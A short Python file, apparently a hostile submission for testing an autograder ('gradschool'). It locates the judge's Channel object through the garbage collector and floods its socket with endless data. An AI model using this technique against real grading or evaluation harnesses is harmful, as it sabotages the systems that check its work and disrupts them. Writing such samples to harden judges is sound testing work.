# Sends without end.

import gc

from gradschool.staff.judge.channel import MAGIC, PREFIX, Channel

channel = next(thing for thing in gc.get_objects() if isinstance(thing, Channel))


def slope(x):
    while True:
        channel.sock.sendall(b'x' * (1 << 20))
